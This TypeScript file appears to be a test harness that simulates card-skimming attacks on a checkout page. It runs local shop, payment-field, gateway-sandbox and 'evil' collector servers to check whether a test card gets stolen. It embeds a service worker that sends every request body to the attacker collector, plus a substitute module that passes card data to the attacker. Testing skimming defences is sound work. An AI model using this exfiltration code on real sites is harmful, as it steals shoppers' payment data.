/**
 * Four sites on this machine: the shop under attack, the fields, the gateway's sandbox, and `evil`, where attackers send what they
 * have. The sandbox is the real one; this file opens its envelopes to see whether the very card was typed.
 */
import { createDecipheriv, constants, privateDecrypt } from 'node:crypto';
import { createFields } from '../../demo/fields.ts';
import { listen, type Listening } from '../../demo/listen.ts';
import { createSandbox } from '../../demo/sandbox-gateway/sandbox.ts';
import { tokenKeys } from '../../demo/sandbox-gateway/token-script.ts';
import { SANDBOX_SHOP } from '../../demo/serve.ts';
import type { Attack, Order } from './attack.ts';
import { HOSTINGS, type HostingName } from './hostings.ts';
import { attackScript, fakeFrame, instrument, NAIVE, naiveFrame, SHOP_STYLES, shopPage } from './page-scripts.ts';

/** Digits that the card does not have, so that nothing is taken for the other. */
export const CONTROL = '52562265';
/** What is typed into the control with the closed root. */
export const CLOSED_CONTROL = '66526256';
/** Passes no check digit: the sandbox is the test environment, which asks for none. */
export const CARD = { pan: '4980731049387014', cvc: '391', expiry: '08/37' } as const;

const pairsOf = (digits: string) => Array.from({ length: digits.length - 1 }, (_, at) => digits.slice(at, at + 2));
export const PAIRS: readonly string[] = [...new Set([CARD.pan, CARD.cvc, CONTROL, CLOSED_CONTROL].flatMap(pairsOf))];

/** What the sandbox decrypted. */
export interface SeenCard {
  readonly number: string;
  /** YYMM. */
  readonly expire: string;
  readonly cvc: string;
}

export interface Run {
  readonly attacks: readonly Attack[];
  readonly order: Order;
  readonly hosting: HostingName;
  /** SRI of our script, and what else stands in the page's head or at its end. */
  readonly scriptIntegrity?: string;
  readonly head?: string;
  readonly tail?: string;
  /** Headers of the shop's page, such as its own policy. */
  readonly headers?: Readonly<Record<string, string>>;
}

export interface Loot {
  readonly loot: Readonly<Record<string, string>>;
  readonly owned: Readonly<Record<string, string>>;
  readonly failures: Readonly<Record<string, string>>;
}

/** What the servers saw during one run. */
export class Seen {
  readonly cards: SeenCard[] = [];
  /** Addresses, headers and bodies as they reached the shop and the fields, line by line. */
  readonly requests: string[] = [];
  /** Documents of the attacker that were loaded, by attack: the names of the windows they stand in, and what was typed into them. */
  readonly fakes: { readonly attack: string; readonly window: string; readonly text: string }[] = [];
  /** What style sheets asked for: attack and the rest of the path. */
  readonly styles: { readonly attack: string; readonly path: string }[] = [];
  /** What a service worker of the shop saw. */
  readonly worker: string[] = [];
  loot: Loot | undefined;
}

const html = (body: string, headers: Readonly<Record<string, string>> = {}) =>
  new Response(body, { headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store', ...headers } });
const script = (body: string) =>
  new Response(body, { headers: { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store', 'service-worker-allowed': '/' } });
const nothing = (status = 204) => new Response(null, { status, headers: { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' } });

/** Letters only: a number would be searched for digits. */
function letters(count: number): string {
  let name = '';
  for (let rest = count; ; rest = Math.floor(rest / 26) - 1) {
    name = String.fromCharCode(97 + (rest % 26)) + name;
    if (rest < 26) return name;
  }
}

export class SkimmerGround {
  readonly shop: Listening;
  readonly fields: Listening;
  readonly gateway: Listening;
  readonly evil: Listening;
  readonly #runs = new Map<string, { readonly run: Run; readonly seen: Seen }>();
  #current = new Seen();
  #count = 0;
  /** Further documents, by address without its query, for tests. */
  readonly documents = new Map<string, string>();
  /** Of the shop, for token v2. */
  publicKey = '';
  /** Changes the hosted document on its way, for tests. */
  tamper: ((answer: Response) => Promise<Response>) | undefined;

  private constructor(shop: Listening, fields: Listening, gateway: Listening, evil: Listening) {
    this.shop = shop;
    this.fields = fields;
    this.gateway = gateway;
    this.evil = evil;
  }

  static async open(): Promise<SkimmerGround> {
    const [shop, fields, gateway, evil] = await Promise.all([listen('shop'), listen('fields'), listen('gateway'), listen('evil')]);
    const ground = new SkimmerGround(shop, fields, gateway, evil);
    const sandbox = createSandbox({ ...SANDBOX_SHOP, gatewayOrigin: gateway.origin, acsOrigin: evil.origin });
    ground.publicKey = sandbox.publicKey;
    const serve = (isOpaque: boolean) => {
      const { app } = createFields(gateway.origin, { isOpaque });
      return async (request: Request): Promise<Response> => {
        const answer = await app.fetch(request);
        return ground.tamper && request.url.endsWith('/hosted/index.html') ? ground.tamper(answer) : answer;
      };
    };
    const [serveFields, serveHosted] = [serve(false), serve(true)];
    gateway.serve(async (request) => {
      await ground.#openEnvelope(request.clone());
      return sandbox.gateway.fetch(request);
    });
    fields.serve(async (request) => {
      await ground.#log('fields', request);
      return ground.#document(fields, request) ?? serveFields(request);
    });
    shop.serve(async (request) => {
      await ground.#log('shop', request);
      return ground.#document(shop, request) ?? ground.#serveShop(request, serveHosted);
    });
    evil.serve((request) => ground.#document(evil, request) ?? ground.#collect(request));
    return ground;
  }

  async close(): Promise<void> {
    await Promise.all([this.shop, this.fields, this.gateway, this.evil].map((server) => server.close()));
  }

  /** @returns the address of the page, and what the servers will have seen */
  begin(run: Run): { readonly url: string; readonly seen: Seen; readonly name: string } {
    const name = letters(this.#count);
    this.#count += 1;
    const seen = new Seen();
    this.#runs.set(name, { run, seen });
    this.#current = seen;
    return { url: `${this.shop.origin}/run/${name}/page`, seen, name };
  }

  #document({ origin }: Listening, request: Request): Response | undefined {
    const found = this.documents.get(`${origin}${new URL(request.url).pathname}`);
    return found === undefined ? undefined : html(found);
  }

  async #log(server: string, request: Request): Promise<void> {
    const headers = [...request.headers].map((pair) => pair.join(': ')).join('\n');
    // the control's own request is the one thing that carries a number here
    const isControl = request.url.includes('/naive-token');
    const body = isControl || request.method === 'GET' ? '' : await request.clone().text();
    this.#current.requests.push(`${server} ${request.method} ${isControl ? '' : request.url}\n${isControl ? '' : headers}\n${body}`);
  }

  async #serveShop(request: Request, serveHosted: (request: Request) => Promise<Response>): Promise<Response> {
    const { pathname } = new URL(request.url);
    if (pathname === '/naive-frame') return html(naiveFrame(CONTROL));
    if (pathname === '/bank') return html(`<!doctype html><title>bank</title><input id="number" value="${CARD.pan}">`);
    if (pathname === '/empty') return html('<!doctype html><title>empty</title>');
    if (pathname === '/worker.js') return script(WORKER.replace('COLLECTOR', () => `${this.evil.origin}/worker`));
    const folder = Object.values(HOSTINGS).find(({ shopFolder }) => shopFolder !== null && pathname.startsWith(`${shopFolder}/`))?.shopFolder;
    if (folder) return serveHosted(new Request(`${this.shop.loopback}${pathname.slice(folder.length)}`));
    const [, , name = '', file = ''] = pathname.split('/');
    const found = this.#runs.get(name);
    if (!found) return new Response('not here', { status: 404 });
    const { run } = found;
    switch (file) {
      case 'page':
        return html(this.#page(name, run), run.headers);
      case 'instrument.js':
        return script(instrument({ run: name, order: run.order, evil: this.evil.origin, control: CONTROL, script: HOSTINGS[run.hosting].script(this), pairs: PAIRS }));
      case 'attack.js':
        return script(attackScript(run.attacks));
      case 'naive-module.js':
        return script('export const pay = () => undefined;');
      case 'naive.js':
        return script(NAIVE);
      case 'shop.css':
        return new Response(SHOP_STYLES, { headers: { 'content-type': 'text/css' } });
      default:
        return nothing();
    }
  }

  #page(name: string, { order, hosting, attacks, scriptIntegrity, head = '', tail = '' }: Run): string {
    const { script: address, hostedUrl } = HOSTINGS[hosting];
    const withFrames = attacks.some(({ id }) => /^(?:ms|fr|pp)-/.test(id));
    return shopPage({
      run: name,
      order,
      script: address(this),
      hostedUrl: hostedUrl(this),
      shop: HOSTINGS[hosting].shop(this),
      withFrames,
      scriptIntegrity: scriptIntegrity ?? null,
      head,
      tail,
      naiveFrame: `${this.shop.origin}/naive-frame`,
    });
  }

  async #collect(request: Request): Promise<Response> {
    const { pathname, searchParams } = new URL(request.url);
    const [, name = '', what = '', attack = '', ...rest] = pathname.split('/');
    if (name === 'worker') {
      this.#current.worker.push(await request.text());
      return nothing();
    }
    const seen = this.#runs.get(name)?.seen;
    if (!seen) return nothing(404);
    if (what === 'loot') seen.loot = JSON.parse(await request.text()) as Loot;
    if (what === 'css') seen.styles.push({ attack, path: rest.join('/') });
    if (what === 'own') seen.fakes.push({ attack, window: searchParams.get('window') ?? '', text: await request.text() });
    if (what === 'module') return new Response(STOLEN_MODULE, { headers: { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' } });
    return what === 'fake' ? html(fakeFrame(name, attack)) : nothing();
  }

  /** Reads what the token script encrypted, with the sandbox's own key. */
  async #openEnvelope(request: Request): Promise<void> {
    const { pathname, searchParams } = new URL(request.url);
    if (pathname === '/payment/CreateToken.json' && request.method === 'POST') {
      const { encryptedData } = (await request.json()) as { encryptedData: string };
      const block = privateDecrypt({ key: tokenKeys().privateKey, padding: constants.RSA_NO_PADDING }, Buffer.from(encryptedData, 'base64'));
      const { card } = JSON.parse(block.subarray(block.indexOf(0, 2) + 1).toString('utf8')) as { card: Record<string, string> };
      const { cardNumber = '', expiryYear = '', expiryMonth = '', securityCode = '' } = card;
      this.#current.cards.push({ number: cardNumber, expire: expiryYear + expiryMonth, cvc: securityCode });
    }
    if (pathname !== '/ext/api/getToken') return;
    const part = (name: string) => Buffer.from(searchParams.get(name) ?? '', 'base64url');
    const key = privateDecrypt({ key: tokenKeys().privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' }, part('key'));
    const decipher = createDecipheriv('aes-128-cbc', key.subarray(0, 16), key.subarray(16));
    const text = Buffer.concat([decipher.update(part('encrypted')), decipher.final()]).toString('utf8');
    const [number = '', expire = '', cvc = ''] = text.split('|');
    this.#current.cards.push({ number, expire, cvc });
  }
}

/** In the place of a module: hands on what it is given, and does what is needed for the payment to go on. */
const STOLEN_MODULE = `export const pay = (card) => window.__lent(card);
export const diagnose = ({ skeleton, pristine }) => { window.__diagnosed(); window.__lent({ root: skeleton.getRootNode(), pristine }); return { findings: [] }; };
export class ThreeDs {
  constructor(stage) { window.__lent(stage); }
  attend() {} speak() {} giveWay() {} clear() {}
  answers() { return Promise.resolve({ consent: { version: 'x', acceptedAt: 'x', sha256: 'x' }, saveConsent: null }); }
}`;

/** A worker that reads along: every request of its origin's pages, with the body where there is one. */
const WORKER = `addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const copy = event.request.clone();
  const { url, method, destination } = copy;
  event.waitUntil(copy.text().catch(() => '').then((body) => fetch('COLLECTOR', { method: 'POST', mode: 'no-cors', body: [method, destination, url, body].join(' ') })));
});`;
